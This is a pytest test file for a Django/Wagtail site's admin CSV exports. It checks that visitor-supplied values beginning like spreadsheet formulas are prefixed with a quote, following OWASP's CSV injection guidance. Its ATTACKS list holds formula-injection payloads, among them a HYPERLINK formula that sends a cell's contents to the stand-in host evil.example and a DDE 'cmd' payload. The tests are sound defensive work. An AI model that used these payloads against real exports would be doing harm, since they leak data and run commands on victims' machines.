"""CSV exports never hand a spreadsheet a formula typed by a visitor (OWASP's CSV injection rule)."""

import csv
import io

from django.urls import URLResolver, get_resolver
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import pytest

from community.models import Feedback
from home.exports import neutralise_formula
from legal_guides.models import GuideFeedback
from search.models import ZeroResultQuery
from tests.courses.conftest import person

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&F2,"Ver")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@sum(1+1)",
]


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_neutralised(rows, attacks=ATTACKS):
    cells = [cell for row in rows[1:] for cell in row]
    for attack in attacks:
        assert attack not in cells, f"{attack!r} reached the CSV as a formula"
        assert "'" + attack in cells, f"{attack!r} is missing from the CSV"


@pytest.mark.parametrize("attack", ATTACKS + ["\tcmd", "\rcmd"])
def test_cells_that_start_like_a_formula_are_prefixed_with_a_quote(attack):
    assert neutralise_formula(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", ["Ana Pérez", "0991234567", "ana-perez@example.org", "", 7, -2, None]
)
def test_ordinary_values_are_exported_unchanged(value):
    assert neutralise_formula(value) == value


def admin_views_with_export(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from admin_views_with_export(pattern, inner)
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if initkwargs.get("list_export", getattr(view_class, "list_export", None)):
                yield namespace + (pattern.name or ""), view_class


def test_every_admin_export_is_formula_safe():
    """Ours and Wagtail's own reports (page titles come from partners too)."""
    views = dict(admin_views_with_export())
    assert {"enrolments:index", "legal_guides_helpfulness", "search_zero_results"} <= set(views)
    assert len(views) >= 10, views
    for name, view_class in views.items():
        view = view_class()
        for attack in ATTACKS:
            assert view.preprocess_field_value("title", attack, view.FORMAT_CSV) == "'" + attack, (
                name
            )
        assert view.preprocess_field_value("title", "=1", view.FORMAT_XLSX) == "=1", name


def test_enrolment_export_neutralises_names_and_needs(admin_client, make_course):
    course = make_course()
    for number, attack in enumerate(ATTACKS, start=1):
        enrolment = person(
            number, full_name=attack, needs=attack, course=course, status="confirmed"
        )
        enrolment.queue_number = number
        enrolment.reference = f"QTO-X{number}"
        enrolment.consent_at = timezone.now()
        enrolment.save()
    rows = csv_rows(admin_client.get("/admin/enrolments/", {"export": "csv"}))
    assert len(rows) == 1 + len(ATTACKS)
    assert_neutralised(rows)


def test_tu_voz_export_neutralises_messages(admin_client):
    for attack in ATTACKS:
        Feedback.objects.create(language="es", message=attack)
    rows = csv_rows(admin_client.get("/admin/snippets/community/feedback/", {"export": "csv"}))
    assert_neutralised(rows)


def test_guide_feedback_export_neutralises_comments(admin_client, make_guide):
    guide = make_guide("trabajo", title="Trabajar en Quito")
    for attack in ATTACKS:
        GuideFeedback.objects.create(page=guide, helpful=False, comment=attack, language="es")
    rows = csv_rows(admin_client.get("/admin/guide-feedback/", {"export": "csv"}))
    assert_neutralised(rows)


def test_helpfulness_report_neutralises_guide_titles(admin_client, make_guide):
    make_guide("formula", title="=HYPERLINK(1)")
    rows = csv_rows(admin_client.get("/admin/reports/guide-helpfulness/", {"export": "csv"}))
    assert_neutralised(rows, ["=HYPERLINK(1)"])


def test_zero_result_searches_export_neutralises_queries(admin_client):
    week = timezone.localdate()
    for attack in ATTACKS:
        ZeroResultQuery.objects.create(language="es", week=week, query=attack, count=3)
    rows = csv_rows(admin_client.get("/admin/reports/searches-without-results/", {"export": "csv"}))
    assert_neutralised(rows)


def test_xlsx_export_still_works(admin_client):
    Feedback.objects.create(language="es", message="=1+1")
    response = admin_client.get("/admin/snippets/community/feedback/", {"export": "xlsx"})
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
